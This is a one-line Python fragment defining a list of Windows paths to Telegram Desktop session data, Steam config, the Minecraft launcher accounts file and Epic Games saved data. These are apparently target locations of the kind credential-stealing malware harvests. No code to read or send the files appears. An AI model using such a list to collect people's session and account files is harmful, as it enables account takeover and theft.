P = ["\\Telegram Desktop\\tdata", "\\Steam\\config", "\\.minecraft\\launcher_accounts.json", "\\EpicGamesLauncher\\Saved"]
